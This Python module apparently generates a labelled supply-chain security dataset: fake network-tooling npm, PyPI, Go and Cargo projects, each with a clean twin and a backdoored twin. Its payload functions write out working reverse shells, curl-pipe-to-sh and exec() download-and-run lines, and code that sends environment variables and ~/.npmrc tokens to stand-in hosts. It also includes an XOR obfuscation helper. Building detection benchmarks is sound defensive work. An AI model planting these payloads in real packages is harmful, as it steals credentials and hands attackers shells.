"""`dep-manifest` class of the `supply` family: source trees of small npm / PyPI / Go / Cargo
projects whose install scripts, setup.py, vendored dependencies or build scripts fetch, decode or
run code (event-stream/flatmap-stream 2018, malicious PyPI setup.py and .pth packages, Rust
build.rs and Go init() phone-home cases), each with an honest twin.

This module holds the shared vocabulary and payloads and the driver; the shapes live in
supply_dep_npm.py, supply_dep_py.py and supply_dep_gocargo.py. Written blind: public write-ups only.
"""
from __future__ import annotations

import base64
import hashlib
import random
from dataclasses import dataclass, field

from .common import doc_host, doc_ip, make_tar, make_zip, port, word

_ORGS = ["netops", "edgekit", "lanworks", "ifaceio", "routekit", "opsbox", "cfgtools", "devmgmt"]
_TOPICS = [("config", "Parse, validate and diff configuration files of network devices"),
           ("snmp", "Small SNMP walker and MIB value formatter"),
           ("syslog", "Structured syslog parsing and forwarding helpers"),
           ("netconf", "Minimal NETCONF session and RPC helpers"),
           ("inventory", "Device inventory collection over SSH and REST"),
           ("backup", "Scheduled configuration backups for routers and switches"),
           ("tftp", "TFTP client and server helpers for firmware staging"),
           ("ipam", "IP address management helpers and subnet calculators")]


@dataclass
class DProj:
    name: str           # package name (kebab-case for npm/cargo, snake for python)
    mod: str            # identifier form
    version: str
    topic: str
    description: str
    author: str
    email: str
    org: str
    license: str
    host: str           # the project's own (honest) documentation/update host
    extra: dict = field(default_factory=dict)


def draw_dproj(rng: random.Random) -> DProj:
    topic, desc = rng.choice(_TOPICS)
    w = word(rng, (1, 2))
    name = rng.choice([f"{w}-{topic}", f"{topic}-{w}", f"{w}{topic}"])
    first = rng.choice(["ana", "bo", "chen", "dara", "emil", "femi", "gita", "hal", "ines", "kai"])
    org = rng.choice(_ORGS)
    return DProj(name=name, mod=name.replace("-", "_"), version=f"{rng.randint(0, 4)}.{rng.randint(0, 15)}.{rng.randint(0, 9)}",
                 topic=topic, description=desc + rng.choice(["", " for automation scripts", " (async)", ", batteries included"]),
                 author=first.capitalize() + " " + word(rng, (2, 2)).capitalize(), email=f"{first}@{org}.example",
                 org=org, license=rng.choice(["MIT", "ISC", "Apache-2.0", "BSD-3-Clause"]), host=f"{org}.example")


@dataclass
class Shape:
    clean: dict
    planted: dict
    paths: list
    note: str
    categories: list
    variant: dict
    extra_changed: list = field(default_factory=list)   # changed but not evidence (e.g. checksums)
    severity: str = "critical"


# ----------------------------------------------------------------------------- endpoints and payloads

def evil_url(rng: random.Random, path: str | None = None) -> str:
    host = doc_ip(rng) if rng.random() < 0.5 else doc_host(rng)
    pt = f":{port(rng)}" if rng.random() < 0.5 else ""
    scheme = "https" if (rng.random() < 0.4 and not pt) else "http"
    path = path or rng.choice(["/i.sh", "/setup", "/p/" + word(rng), "/cdn/" + word(rng) + ".js", "/x", "/u/stage2"])
    return f"{scheme}://{host}{pt}{path}"


def js_payload(rng: random.Random) -> tuple[str, str]:
    """(JavaScript source, description) for a decoded/downloaded payload."""
    k = rng.choice(["rev", "dl", "exfil"])
    if k == "rev":
        ip, pt = doc_ip(rng), port(rng)
        return (f"var n=require('net'),c=require('child_process'),s=new n.Socket();"
                f"s.connect({pt},'{ip}',function(){{var p=c.spawn('/bin/sh',[]);s.pipe(p.stdin);"
                f"p.stdout.pipe(s);p.stderr.pipe(s);}});s.on('error',function(){{}});",
                f"a reverse shell to {ip}:{pt}")
    if k == "dl":
        u = evil_url(rng, "/" + word(rng) + ".sh")
        return (f"require('child_process').exec('curl -fsSL {u} | sh',function(){{}});",
                f"fetching {u} and piping it to sh")
    u = evil_url(rng, "/c")
    host = u.split("//")[1].split("/")[0].split(":")[0]
    pt = int(u.split(":")[2].split("/")[0]) if u.count(":") == 2 else (443 if u.startswith("https") else 80)
    mod = "https" if u.startswith("https") else "http"
    return (f"var o=require('os'),f=require('fs'),h=require('{mod}');var d=JSON.stringify({{h:o.hostname(),"
            f"u:o.userInfo().username,e:process.env,r:(function(){{try{{return f.readFileSync(o.homedir()+'/.npmrc','utf8')}}"
            f"catch(x){{return ''}}}})()}});var q=h.request({{host:'{host}',port:{pt},path:'/c',method:'POST'}});"
            f"q.on('error',function(){{}});q.end(d);",
            f"sending the host name, user, environment and ~/.npmrc tokens to {host}:{pt}")


def py_payload(rng: random.Random) -> tuple[str, str]:
    k = rng.choice(["rev", "dl", "exfil"])
    if k == "rev":
        ip, pt = doc_ip(rng), port(rng)
        return ("import socket,subprocess,os\n"
                f"s=socket.socket();s.connect(('{ip}',{pt}))\n"
                "[os.dup2(s.fileno(),f) for f in (0,1,2)]\n"
                "subprocess.call(['/bin/sh','-i'])\n", f"a reverse shell to {ip}:{pt}")
    if k == "dl":
        u = evil_url(rng, "/" + word(rng) + ".py")
        return ("import urllib.request\n"
                f"exec(urllib.request.urlopen('{u}',timeout=10).read().decode())\n",
                f"downloading {u} and exec()ing it")
    u = evil_url(rng, "/c")
    return ("import os,json,socket,urllib.request\n"
            "d=json.dumps({'h':socket.gethostname(),'u':os.environ.get('USER'),'e':dict(os.environ)}).encode()\n"
            f"urllib.request.urlopen(urllib.request.Request('{u}',data=d),timeout=10)\n",
            f"posting the host name, user and environment to {u}")


def keystream_xor(data: bytes, key: str) -> bytes:
    """SHA-256 counter-mode keystream (mirrored in the JS / Python decoders)."""
    out = bytearray()
    for i in range(0, len(data), 32):
        k = hashlib.sha256(f"{key}:{i // 32}".encode()).digest()
        out += bytes(a ^ b for a, b in zip(data[i:i + 32], k))
    return bytes(out)


def b64(s: str | bytes) -> str:
    return base64.b64encode(s.encode() if isinstance(s, str) else s).decode()


def license_text(P: DProj) -> str:
    return (f"{P.license} License\n\nCopyright (c) 2023 {P.author}\n\nPermission is hereby granted, free of charge, "
            "to any person obtaining a copy of this software, to deal in the Software without restriction.\n")


# ----------------------------------------------------------------------------- driver

def _shapes():
    from . import supply_dep_gocargo, supply_dep_npm, supply_dep_py
    out = []
    for mod in (supply_dep_npm, supply_dep_py, supply_dep_gocargo):
        out.extend(mod.SHAPES)
    return out   # (ecosystem, name, fn)


def _plan(rng: random.Random) -> list:
    groups: dict[str, list] = {}
    for s in sorted(_shapes(), key=lambda t: (t[0], t[1])):
        groups.setdefault(s[0], []).append(s)
    for g in groups.values():
        rng.shuffle(g)
    ecos = sorted(groups)
    rng.shuffle(ecos)
    out = []
    while any(groups.values()):
        for e in ecos:
            if groups[e]:
                out.append(groups[e].pop(0))
    return out


def gen_dep(ctx) -> None:
    from .supply import as_bytes, write_tree
    cls = "dep-manifest"
    plan = _plan(ctx.rng_for(cls, "plan"))
    for index in range(ctx.per_class):
        rng = ctx.rng_for(cls, str(index))
        eco, shape_name, fn = plan[index % len(plan)]
        P = draw_dproj(rng)
        s: Shape = fn(rng, P)
        if set(s.clean) != set(s.planted):
            raise ValueError(f"{cls}#{index}: file sets differ {sorted(set(s.clean) ^ set(s.planted))}")
        changed = {p for p in s.clean if as_bytes(s.clean[p]) != as_bytes(s.planted[p])}
        if changed != set(s.paths) | set(s.extra_changed):
            raise ValueError(f"{cls}#{index} {shape_name}: changed {sorted(changed)} != labelled {sorted(s.paths)}")
        container = rng.choice(["dir", "dir", "tar.gz", "zip"])
        prefix = f"{P.name}-{P.version}"
        work = ctx.workdir(cls, index)
        outs = {}
        for which, files in (("clean", s.clean), ("planted", s.planted)):
            tree = work / which / "tree"
            write_tree(tree, files)
            if container == "dir":
                outs[which] = tree
            elif container == "tar.gz":
                outs[which] = make_tar(tree, work / which / "src.tar.gz", "gz", prefix=prefix + "/")
            else:
                holder = work / which / "z"
                holder.mkdir(parents=True)
                tree.rename(holder / prefix)
                outs[which] = make_zip(holder, work / which / "src.zip")
        ctx.add_pair(cls=cls, index=index, stem=f"{P.name}-{index:02d}", clean=outs["clean"], planted=outs["planted"],
                     kind="source", fmt="directory" if container == "dir" else container,
                     backdoors=[{"categories": sorted(set(s.categories)), "paths": s.paths, "note": s.note,
                                 "severity": s.severity}],
                     variant={"ecosystem": eco, "shape": shape_name, "container": container, **s.variant},
                     suffix="" if container == "dir" else "." + container)
